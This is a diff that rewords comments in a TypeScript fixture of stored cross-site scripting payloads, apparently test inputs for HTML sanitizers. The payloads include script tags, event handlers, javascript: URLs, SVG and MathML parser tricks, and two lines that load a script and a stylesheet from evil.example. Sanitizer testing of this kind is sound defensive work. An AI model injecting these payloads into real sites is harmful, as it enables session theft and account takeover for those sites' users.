@@ -1,10 +1,10 @@
 /**
- * Texts that have run scripts where something stored was shown, from public lists of such attacks: OWASP's XSS filter
+ * Texts that have executed scripts where something stored was shown, from public lists of such attacks: OWASP's XSS filter
  * evasion cheat sheet, PortSwigger's cross-site scripting cheat sheet, html5sec.org, and the tests of DOMPurify and
- * sanitize-html. Each calls `alert`, so that a browser that runs one can be told by it.
+ * sanitize-html. Each calls `alert`, so that its execution in a browser can be detected.
  */
 export const storedXss: readonly string[] = [
-  // Scripts, and what filters take for none.
+  // Scripts, and variants that filters do not recognise.
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<script src=https://evil.example/x.js></script>',
@@ -25,7 +25,7 @@ export const storedXss: readonly string[] = [
   '</noscript><script>alert(1)</script>',
   '--><script>alert(1)</script>',
   ']]><script>alert(1)</script>',
-  // Handlers of events.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"//',
   '<img/src=x/onerror=alert(1)>',
@@ -58,7 +58,7 @@ export const storedXss: readonly string[] = [
   '<input type=hidden accesskey=X onclick=alert(1)>',
   '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
   '<div contenteditable onbeforeinput=alert(1)>x</div>',
-  // Addresses that run, in the ways in which they are hidden.
+  // Addresses that execute code, with the ways to hide them.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -108,7 +108,7 @@ export const storedXss: readonly string[] = [
   '<embed src="javascript:alert(1)">',
   '<applet code="javascript:alert(1)"></applet>',
   '<portal src="javascript:alert(1)" onload=alert(1)></portal>',
-  // Drawings and formulas, in which other rules of parsing hold.
+  // SVG and MathML, which have other parsing rules.
   '<svg onload=alert(1)>',
   '<svg/onload=alert(1)//',
   '<svg><script>alert(1)</script></svg>',
@@ -123,7 +123,7 @@ export const storedXss: readonly string[] = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  // What is harmless until it is read a second time.
+  // Harmless until it is parsed a second time.
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<svg><style><img src=x onerror=alert(1)></style></svg>',
@@ -151,7 +151,7 @@ export const storedXss: readonly string[] = [
   '<style>@import "javascript:alert(1)";</style>',
   '<link rel="stylesheet" href="https://evil.example/alert(1).css">',
   '<p class="MuiDialog-root" style="position:fixed;inset:0" id="root">alert(1)</p>',
-  // Broken tags, strange letters, and what templates run.
+  // Malformed tags, unusual characters, and template expressions.
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
   '<img src=x:x onerror=alert(1) <!--',
   '<a href="x" =onclick="alert(1)">x</a>',
